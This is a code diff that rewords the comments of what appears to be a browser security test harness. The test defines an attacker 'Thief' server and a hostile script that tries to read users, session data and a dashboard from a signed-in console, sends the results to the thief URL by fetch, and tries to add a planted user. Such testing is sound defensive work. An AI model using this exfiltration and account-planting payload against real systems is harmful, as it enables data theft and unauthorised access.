@@ -4,7 +4,7 @@ import type { AddressInfo } from "node:net";
 
 export type Loot = { what: string; value: string };
 
-/** A stranger's server that takes down what a script brings it, and serves a script of a vendor's. */
+/** An attacker's server that records what a script sends, and serves a vendor's script. */
 export class Thief {
   readonly loot: Loot[] = [];
   readonly #server = createServer((request, response) => {
@@ -45,14 +45,14 @@ export class Thief {
 }
 
 /**
- * A script that tries, again and again, all that a script could try on whoever is signed in at `consoleUrl`. It reports
- * 'round' for each go, 'refused' with what the browser forbade, and anything else that it got.
+ * A script that repeatedly attempts everything a script could do to a user signed in at `consoleUrl`. It reports
+ * 'round' for each attempt, 'refused' for what the browser blocked, and everything that it got.
  */
 export function hostileScript(thiefUrl: string, consoleUrl: string): string {
   return `(${hostile})(${JSON.stringify(thiefUrl)}, ${JSON.stringify(consoleUrl)});`;
 }
 
-/** Runs in the browser: it must not use anything of this file. */
+/** Serialised into the browser, so it must not use anything else of this file. */
 function hostile(thiefUrl: string, consoleUrl: string) {
   const report = (what: string, value: unknown) =>
     void fetch(thiefUrl, { method: "POST", mode: "no-cors", body: JSON.stringify({ what, value: String(value) }) });
@@ -107,7 +107,7 @@ function hostile(thiefUrl: string, consoleUrl: string) {
     await attempt("users", () => read("/api/users/get-all-users"));
     await attempt("session", async () => (await read("/api/auth/session")).match(/@/)?.[0]);
     await attempt("dashboard", () => read("/user/moderate"));
-    // Needs no leave to be sent, if only a cookie were enough.
+    // A simple request needs no preflight; it would succeed if a cookie were enough.
     await attempt("sent", async () => {
       const body = JSON.stringify({ email: "planted@example.com", password: "planted password" });
       await fetch(`${consoleUrl}/api/users/add-user`, {
